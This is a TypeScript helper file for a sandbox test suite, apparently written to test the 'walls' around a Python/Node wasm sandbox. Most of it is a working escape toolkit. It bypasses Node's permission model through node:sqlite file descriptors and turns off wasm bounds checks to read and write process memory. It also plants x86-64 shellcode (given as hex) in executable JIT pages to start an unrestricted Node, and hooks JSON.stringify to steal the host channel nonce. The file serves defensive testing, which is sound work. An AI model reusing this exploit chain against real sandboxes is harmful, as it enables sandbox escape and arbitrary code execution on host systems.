/**
 * Helpers for walls.test.ts: the guest-side toolkit (JavaScript a Python guest evaluates in
 * its sandbox's realm with `run_js`) and host-side process/memory probes.
 *
 * The toolkit holds the routes this suite found past Node's permission model, so that every
 * wall behind it can be tested with the permission model out of the way:
 *
 * - `node:sqlite` opens any path the sandbox process can open, without asking the permission
 *   model; its descriptor is then read (or written) with `fs.readSync`/`fs.writeSync`, which
 *   take fds and are never checked. `readFile`, `probe`, `writeFile`.
 * - `v8.setFlagsFromString("--no-wasm-bounds-checks")` turns off bounds checks for wasm
 *   compiled afterwards: a memory64 load/store then reaches any address of the process. The
 *   JIT's code pages are RWX, so `execNode` writes a few bytes of x86-64 there (vfork +
 *   execve) and starts a brand-new Node *without* `--permission` inside the sandbox.
 *   `unwalled(body)` runs `body` in such a process and returns its JSON report.
 *
 * If a route is closed (a fixed Node, a wall that refuses it), the toolkit's functions throw
 * and the tests fall back to what is still reachable.
 */
import { readdirSync, readFileSync } from "node:fs";

/**
 * x86-64, position independent; layout fixed (see execNode):
 *   push rbx; vfork; test rax,rax; jnz parent
 *   child:  execve(path, [path, "-e", script], NULL); exit(127)
 *   parent: pop rbx; movabs rax, 0x1122334455667788; jmp [rip+back]
 *   0x50 back (u64, patched)  0x58 "-e\0\0"  0x5c path (252 bytes)  0x158 script (NUL-terminated)
 */
export const SHELLCODE_HEX =
  "53b83a0000000f054885c0753131d252488d054101000050488d053900000050488d3d35000000574889e6b83b0000000f05bf7f000000b83c0000000f055b48b88877665544332211ff25010000009000000000000000002d650000";

/**
 * A memory64 module with a fixed 37-page memory (its mapping is found by size):
 *   go() -> i64.const 0x1122334455667788 (the marker searched for in the JIT code)
 *   ld(addr) / st(addr, v): i64 load/store; find(from, to, pattern): first addr holding pattern.
 */
export const WASM64_HEX =
  "0061736d010000000116046000017e60017e017e60027e7e0060037e7e7e017e03050400010203050401052525071b05016d020002676f0000026c64000102737400020466696e6400030a49040c004288ef99abc5e88c91110b070020002903000b0900200020013703000b280002400340200020015a0d012000290300200251044020000f0b200042017c21000c000b0b427f0b";

/** Evaluated with `pyodide.code.run_js` in a Python sandbox: returns the toolkit object. */
export const TOOLKIT_JS = String.raw`(() => {
  const fs = process.getBuiltinModule("fs");
  const v8 = process.getBuiltinModule("v8");
  let DatabaseSync = null;
  try { DatabaseSync = process.getBuiltinModule("node:sqlite").DatabaseSync; } catch (e) {}
  const keep = [];
  const pause = new Int32Array(new SharedArrayBuffer(4));
  const sleep = (ms) => Atomics.wait(pause, 0, 0, ms);
  const fdsNow = () => { const s = new Set(); for (let fd = 0; fd < 1024; fd++) { try { fs.fstatSync(fd); s.add(fd); } catch (e) {} } return s; };
  /** Open a path through node:sqlite (no permission check) and return the descriptor it holds. */
  const openFd = (path, readOnly) => {
    if (!DatabaseSync) throw new Error("node:sqlite unavailable");
    const before = fdsNow();
    const db = new DatabaseSync(path, { readOnly });
    const fresh = [...fdsNow()].filter((fd) => !before.has(fd));
    if (fresh.length !== 1) { db.close(); throw new Error("expected one new fd, got " + fresh.join(",")); }
    return { fd: fresh[0], db };
  };
  const readAll = (fd, max) => {
    const chunks = []; let pos = 0;
    for (;;) { const b = Buffer.alloc(1 << 16); const n = fs.readSync(fd, b, 0, b.length, pos); if (!n) break; chunks.push(b.subarray(0, n)); pos += n; if (pos >= max) break; }
    return Buffer.concat(chunks);
  };
  const readFile = (path, max) => { const o = openFd(path, true); try { return readAll(o.fd, max || 64 * 1024 * 1024).toString("latin1"); } finally { o.db.close(); } };
  /** "absent" (or unreadable), "dir" or "file", seen past the permission model. */
  const probe = (path) => {
    if (!DatabaseSync) return "unprobed";
    let db;
    try { db = new DatabaseSync(path, { readOnly: true }); }
    catch (e) { return /unable to open/.test(e.message) ? "absent" : /disk I\/O/.test(e.message) ? "dir" : "error:" + e.message; }
    try { db.prepare("select count(*) from sqlite_master").get(); return "file"; }
    catch (e) { return /disk I\/O/.test(e.message) ? "dir" : "file"; }
    finally { db.close(); }
  };
  const writeFile = (path, text) => { const o = openFd(path, false); const b = Buffer.from(text, "latin1"); fs.writeSync(o.fd, b, 0, b.length, 0); o.db.close(); return b.length; };
  /** Write every byte to a raw fd, waiting out EAGAIN (the host channel is non-blocking). */
  const writeAll = (fd, bytes) => {
    const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    for (let at = 0; at < b.length; ) {
      try { at += fs.writeSync(fd, b, at, b.length - at); }
      catch (e) { if (e.code !== "EAGAIN") throw e; sleep(1); }
    }
    return b.length;
  };
  /** The nonce of the host channel, read off the frames the sandbox itself sends (JSON.stringify is shared). */
  let nonce = null;
  const sniffNonce = () => {
    const orig = JSON.stringify;
    JSON.stringify = function (v, ...rest) {
      if (v !== null && typeof v === "object" && typeof v.t === "string" && typeof v.nonce === "string") nonce = v.nonce;
      return orig.call(this, v, ...rest);
    };
    return () => nonce;
  };
  const execNode = (script, codeHex, wasmHex) => {
    v8.setFlagsFromString("--no-wasm-bounds-checks");
    const maps = () => readFile("/proc/self/maps").split("\n");
    const parse = (l) => { const [r, perm] = l.split(" "); const [a, b] = r.split("-").map((x) => BigInt("0x" + x)); return { a, b, perm }; };
    const before = new Set(maps());
    const instance = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(wasmHex, "hex")));
    const { go, ld, st, find } = instance.exports;
    go();
    const now = maps().filter(Boolean);
    const fresh = now.filter((l) => !before.has(l)).map(parse);
    const mem = fresh.find((m) => m.perm === "rw-p" && m.b - m.a === 37n * 65536n);
    if (!mem) throw new Error("the wasm memory is not in /proc/self/maps");
    const M = 1n << 64n;
    const rel = (addr) => BigInt.asIntN(64, (addr - mem.a + M) % M);
    const marker = 0x1122334455667788n;
    const spaces = [...fresh.filter((m) => m.perm === "rwxp"), ...now.map(parse).filter((m) => m.perm === "rwxp" && m.b - m.a <= 64n << 20n)];
    let at = -1n, space;
    for (const c of spaces) { const r = find(rel(c.a), rel(c.b - 8n), marker); if (r !== -1n) { at = BigInt.asUintN(64, r + mem.a); space = c; break; } }
    if (at < 0n) throw new Error("the compiled wasm code was not found in an RWX mapping");
    const cave = space.b - 0x1000n;
    for (let i = 0n; i < 0x800n; i += 8n) if (ld(rel(cave + i)) !== 0n) throw new Error("no empty room in the code space");
    const path = Buffer.alloc(252); path.write(process.execPath, "latin1");
    const payload = Buffer.concat([Buffer.from(codeHex, "hex"), path, Buffer.from(script + "\0", "latin1")]);
    if (payload.length > 0x800) throw new Error("script too long");
    payload.writeBigUInt64LE(at + 8n, 0x50);
    payload[0x41] = 0x89; // the hooked function then returns ...89: proof that the native code ran
    const padded = Buffer.concat([payload, Buffer.alloc((8 - (payload.length % 8)) % 8)]);
    for (let i = 0; i < padded.length; i += 8) st(rel(cave + BigInt(i)), padded.readBigUInt64LE(i));
    const hook = at - 2n; const patch = Buffer.alloc(8);
    patch.writeBigUInt64LE(BigInt.asUintN(64, ld(rel(hook))));
    patch[0] = 0xe9; patch.writeInt32LE(Number(cave - (hook + 5n)), 1);
    st(rel(hook), patch.readBigUInt64LE(0));
    return go().toString(16);
  };
  /** Run body (an async function body, Node CommonJS, no permission model) in a fresh Node; its report (R) as JSON. */
  const unwalled = (body, codeHex, wasmHex, waitMs, tag) => {
    tag = tag || Math.random().toString(36).slice(2);
    const report = "/tmp/.wb-report-" + tag + ".json";
    const child = [
      "const fs = require('fs'), net = require('net'), cp = require('child_process'), os = require('os');",
      "const R = { permission: typeof process.permission === 'object' ? 'on' : 'off', uid: process.getuid(), pid: process.pid };",
      "const t = (k, f) => { try { const v = f(); R[k] = v === undefined ? 'OK' : v; } catch (e) { R[k] = 'ERR ' + (e.code || e.message); } };",
      "const done = () => { fs.writeFileSync(" + JSON.stringify(report + ".tmp") + ", JSON.stringify(R)); fs.renameSync(" + JSON.stringify(report + ".tmp") + ", " + JSON.stringify(report) + "); };",
      "(async () => {", body, "})().catch((e) => { R.fatal = String((e && e.stack) || e); }).finally(done);",
    ].join("\n");
    const script = "/tmp/.wb-child-" + tag + ".js";
    writeFile(script, child);
    const hooked = execNode("require(" + JSON.stringify(script) + ")", codeHex, wasmHex);
    if (!hooked.endsWith("89")) throw new Error("the native code did not run (" + hooked + ")");
    const until = Date.now() + waitMs;
    while (Date.now() < until) {
      if (probe(report) === "file") { const text = readFile(report); if (text.length) return text; }
      sleep(50);
    }
    throw new Error("the unwalled process wrote no report within " + waitMs + " ms");
  };
  return { probe, readFile, writeFile, writeAll, sniffNonce, execNode, unwalled };
})()`;

/** The prelude of a process without walls (`unwalled`): R is its report, t(k, f) records f()'s value or error. */
export const UNWALLED_PRELUDE = [
  "const fs = require('fs'), net = require('net'), cp = require('child_process'), os = require('os');",
  "const R = { permission: typeof process.permission === 'object' ? 'on' : 'off', uid: process.getuid(), pid: process.pid };",
  "const t = (k, f) => { try { const v = f(); R[k] = v === undefined ? 'OK' : v; } catch (e) { R[k] = 'ERR ' + (e.code || e.message); } };",
].join("\n");

/** A script that runs `body` like `unwalled` does, but prints its report on stdout (for a process the host starts itself). */
export function unwalledStdoutScript(body: string): string {
  return `${UNWALLED_PRELUDE}\n(async () => {\n${body}\n})().catch((e) => { R.fatal = String((e && e.stack) || e); }).finally(() => { process.stdout.write("UNWALLED " + JSON.stringify(R) + "\\n"); process.exit(0); });`;
}

/** One host process, from /proc. */
export interface HostProcess {
  pid: number;
  ppid: number;
  uid: number;
  cmdline: string;
  cgroup: string;
}

export function hostProcesses(): HostProcess[] {
  const out: HostProcess[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const status = readFileSync(`/proc/${name}/status`, "utf8");
      const ppid = Number(/^PPid:\s+(\d+)/m.exec(status)?.[1] ?? -1);
      const uid = Number(/^Uid:\s+(\d+)/m.exec(status)?.[1] ?? -1);
      const cmdline = readFileSync(`/proc/${name}/cmdline`, "latin1").replace(/\0/g, " ").trim();
      let cgroup = "";
      try {
        cgroup = readFileSync(`/proc/${name}/cgroup`, "utf8");
      } catch {
        // gone meanwhile
      }
      out.push({ pid: Number(name), ppid, uid, cmdline, cgroup });
    } catch {
      // gone meanwhile
    }
  }
  return out;
}

/** Every descendant of `root` now (not `root` itself). */
export function descendantsOf(root: number, all = hostProcesses()): HostProcess[] {
  const children = new Map<number, HostProcess[]>();
  for (const p of all) children.set(p.ppid, [...(children.get(p.ppid) ?? []), p]);
  const out: HostProcess[] = [];
  const queue = [root];
  while (queue.length) {
    for (const c of children.get(queue.shift()!) ?? []) {
      out.push(c);
      queue.push(c.pid);
    }
  }
  return out;
}

/** Processes this test process started as sandboxes (or that a sandbox started): ours by ancestry or by cgroup. */
export function sandboxProcesses(sandboxUid = 65534): HostProcess[] {
  const all = hostProcesses();
  const mine = new Set(descendantsOf(process.pid, all).map((p) => p.pid));
  const cgroupTag = `wasmbox-${process.pid}/`;
  return all.filter((p) => (mine.has(p.pid) && p.uid === sandboxUid) || p.cgroup.includes(cgroupTag));
}

/** Samples the host's resident memory and event-loop delay while `during` runs. */
export async function measureHost<T>(during: () => Promise<T>): Promise<{ result: T; rssGrowthBytes: number; maxDelayMs: number; utilization: number }> {
  const { monitorEventLoopDelay, performance } = await import("node:perf_hooks");
  const base = process.memoryUsage().rss;
  let peak = base;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
  const delay = monitorEventLoopDelay({ resolution: 10 });
  delay.enable();
  const elu0 = performance.eventLoopUtilization();
  try {
    const result = await during();
    peak = Math.max(peak, process.memoryUsage().rss);
    return { result, rssGrowthBytes: peak - base, maxDelayMs: delay.max / 1e6, utilization: performance.eventLoopUtilization(elu0).utilization };
  } finally {
    clearInterval(sampler);
    delay.disable();
  }
}

/** The path rule for files a run returns (relative, `/`-separated, no `.`/`..`/empty segments, no `\`, no control characters, C0 or C1). */
export function pathRuleViolation(path: string): string | null {
  if (path.length === 0) return "empty";
  if (path.length > 512) return "longer than 512";
  if (path.startsWith("/")) return "absolute";
  if (path.includes("\\")) return "backslash";
  if (/\p{Cc}/u.test(path)) return "control character";
  if (path.split("/").some((s) => s === "" || s === "." || s === "..")) return "empty, . or .. segment";
  return null;
}
